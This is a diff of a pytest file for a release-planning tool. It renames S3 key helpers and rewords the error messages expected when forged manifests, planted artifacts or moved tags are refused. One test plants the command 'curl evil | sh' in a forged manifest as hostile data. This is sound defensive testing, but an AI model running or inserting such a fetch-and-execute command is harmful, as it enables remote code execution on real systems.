@@ -18,11 +18,11 @@ from release.clients import client
 from release.component.release import Release
 from release.errors import ConflictError, ReleaseError, RevisionError
 from release.source import git_host
-from release.store import cross_check, publish
+from release.store import cross_check, publish, release_keys
 from release.store.ledger import Event, Ledger
 from release.store.manifest import ImageName, Manifest, to_json
 from release.store.publish import Publication
-from release.store.releases import Store, artifact_key, manifest_key, tag_key
+from release.store.releases import Store
 from tests.release.conftest import REGION, Clone
 
 pytestmark = pytest.mark.sandbox
@@ -55,11 +55,13 @@ def published(store: Store, clone: Clone, ref: str, build: str | None = None) ->
 def forge(store: Store, manifest: Manifest, change: Callable[[dict[str, Any]], object], content: bytes = b"") -> None:
     """As someone would who can write the bucket: the manifest, and with `content` the artifact that it is to name."""
     s3 = client("s3")
-    document = json.loads(s3.get_object(Bucket=store.bucket, Key=manifest_key(manifest.sha))["Body"].read())
+    document = json.loads(s3.get_object(Bucket=store.bucket, Key=release_keys.manifest(manifest.sha))["Body"].read())
     change(document)
     if content:
-        s3.put_object(Bucket=store.bucket, Key=artifact_key(manifest.sha), Body=content, ChecksumAlgorithm="SHA256")
-    s3.put_object(Bucket=store.bucket, Key=manifest_key(manifest.sha), Body=json.dumps(document).encode())
+        s3.put_object(
+            Bucket=store.bucket, Key=release_keys.artifact(manifest.sha), Body=content, ChecksumAlgorithm="SHA256"
+        )
+    s3.put_object(Bucket=store.bucket, Key=release_keys.manifest(manifest.sha), Body=json.dumps(document).encode())
 
 
 def evil(tmp_path: Path) -> tuple[bytes, Callable[[dict[str, Any]], object]]:
@@ -106,7 +108,7 @@ def test_another_command_is_refused_where_git_has_the_commit(store: Store, clone
     manifest = published(store, clone, "v1", build="true")
     assert plan(store, clone.path, manifest.sha, build="true").notes == ()
     forge(store, manifest, lambda document: document["processes"].update(web="curl evil | sh"))
-    with pytest.raises(ConflictError, match=r"'web' runs 'curl evil | sh', by the Procfile of .* 'python3 app.py'"):
+    with pytest.raises(ConflictError, match=r"for process 'web', but the Procfile of .* has 'python3 app.py'"):
         plan(store, clone.path, manifest.sha, build="true")
 
 
@@ -118,7 +120,7 @@ def test_another_artifact_than_served_is_refused_without_git(store: Store, clone
     content, change = evil(tmp_path)
     forge(store, manifest, lambda document: [change(document), document.update(build={"command": "make"})], content)
     for repository in (None, DARK):
-        with pytest.raises(ConflictError, match=f"what served by that SHA had {manifest.digest}, by the ledger"):
+        with pytest.raises(ConflictError, match=f"what served under this SHA had {manifest.digest}"):
             plan(store, repository, manifest.sha)
 
 
@@ -136,7 +138,7 @@ def test_a_ledger_of_before(store: Store, clone: Clone):
 def test_a_release_that_claims_to_be_built(store: Store, clone: Clone, tmp_path: Path):
     """What can't be compared is said, until it has served or the settings say the same."""
     manifest = published(store, clone, "v1", build="true")
-    assert "the settings name no build step" in plan(store, clone.path, manifest.sha).notes[0]
+    assert "the settings have no build step" in plan(store, clone.path, manifest.sha).notes[0]
     serve(store, manifest)
     assert plan(store, clone.path, manifest.sha).notes == ()
 
@@ -154,7 +156,7 @@ def test_what_the_uploader_says_of_an_artifact_is_not_believed(store: Store, clo
     manifest = published(store, clone, "v1")
     client("s3").put_object(
         Bucket=store.bucket,
-        Key=artifact_key(manifest.sha),
+        Key=release_keys.artifact(manifest.sha),
         Body=b"x" * manifest.size,
         Metadata={"sha256": manifest.digest},
     )
@@ -166,7 +168,7 @@ def test_what_the_uploader_says_of_an_artifact_is_not_believed(store: Store, clo
 def test_a_published_tag_shadows_no_branch(store: Store, clone: Clone, by: str):
     """A release tagged `main` by whoever can write the bucket is not what `main` means."""
     manifest = published(store, clone, "v1")
-    client("s3").put_object(Bucket=store.bucket, Key=tag_key("main", manifest.sha), Body=b"")
+    client("s3").put_object(Bucket=store.bucket, Key=release_keys.tag("main", manifest.sha), Body=b"")
     repository = clone.path if by == "path" else f"file://{clone.path}"
     with pytest.raises(RevisionError, match=r"published as release .* repository has refs/heads/main .*give the SHA"):
         plan(store, repository, "main")
@@ -178,7 +180,7 @@ def test_a_tag_that_only_the_bucket_moved(store: Store, clone: Clone):
     """The repository's tag of the same name is another commit."""
     old = published(store, clone, "v1")
     clone.git("tag", "--annotate", "--message", "x", "v2", "main")
-    client("s3").put_object(Bucket=store.bucket, Key=tag_key("v2", old.sha), Body=b"")
+    client("s3").put_object(Bucket=store.bucket, Key=release_keys.tag("v2", old.sha), Body=b"")
     for repository in (clone.path, f"file://{clone.path}"):
         with pytest.raises(RevisionError, match="refs/tags/v2"):
             plan(store, repository, "v2")
@@ -188,7 +190,7 @@ def test_a_short_sha_that_git_knows_as_another_commit(store: Store, clone: Clone
     """A planted release whose SHA begins as a commit of the repository does."""
     manifest, sha = published(store, clone, "v1"), clone.git("rev-parse", "main")
     planted = replace(manifest, sha=f"{sha[:8]}{'0' * 32}", tags=())
-    client("s3").put_object(Bucket=store.bucket, Key=manifest_key(planted.sha), Body=to_json(planted).encode())
+    client("s3").put_object(Bucket=store.bucket, Key=release_keys.manifest(planted.sha), Body=to_json(planted).encode())
     with pytest.raises(RevisionError, match="give the SHA"):
         plan(store, clone.path, sha[:8])
 
@@ -199,7 +201,7 @@ def test_a_tag_without_git_is_said(store: Store, clone: Clone):
     for repository in (None, DARK, "/nowhere"):
         found = plan(store, repository, "v1")
         assert found.sha == manifest.sha
-        assert f"'v1' is taken as the published release {manifest.sha}" in found.notes[0]
+        assert f"'v1' is taken to mean the published release {manifest.sha}" in found.notes[0]
         assert plan(store, repository, manifest.sha[:9]).notes == ()
 
 
